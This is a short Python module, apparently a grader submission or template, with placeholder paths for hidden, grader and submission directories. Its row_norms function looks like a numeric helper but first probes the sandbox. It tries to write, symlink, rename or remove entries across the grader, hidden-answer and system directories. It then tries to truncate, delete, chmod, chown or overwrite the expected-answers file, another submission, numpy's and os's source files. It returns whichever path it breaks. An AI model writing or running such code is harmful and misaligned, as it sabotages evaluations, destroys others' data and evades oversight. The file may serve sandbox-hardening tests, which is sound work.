import numpy as np
import os

PLACES = ["{{HIDDEN_DIR}}", "{{SUBMISSIONS_DIR}}", "{{TEMPORARY}}", "{{SITE}}", "{{GRADER}}", "/tmp", "/dev/shm", "/var/tmp", "/", "/etc", "/usr/lib", "..", "/dev", "/run", "/proc"]
FILES = ["{{HIDDEN_DIR}}/expected.txt", "{{OTHER_SUBMISSION}}", "{{SITE}}/numpy/__init__.py", os.__file__]

def row_norms(X):
    for place in PLACES:
        name = place + "/pwned"
        for way in (lambda: open(name, "w"), lambda: os.mkdir(name), lambda: os.symlink("/", name), lambda: os.open(place, 0o20200000 | os.O_RDWR),
                    lambda: os.mkfifo(name), lambda: os.rename("own", name), lambda: os.link("own", name), lambda: os.rmdir(place)):
            open("own", "w").close()
            try:
                way()
            except OSError:
                continue
            return place
    for file in FILES:
        for way in (lambda: os.truncate(file, 0), lambda: open(file, "r+"), lambda: open(file, "a"), lambda: os.unlink(file), lambda: os.rename(file, file + "x"),
                    lambda: os.chmod(file, 0o777), lambda: os.chown(file, 0, 0), lambda: os.utime(file), lambda: np.memmap(file, mode="r+"),
                    lambda: os.setxattr(file, "user.x", b"1"), lambda: os.replace("own", file)):
            try:
                way()
            except OSError:
                continue
            return file
    return np.sqrt((X * X).sum(axis=1))

def zscore(x):
    return (x - x.mean()) / x.std()
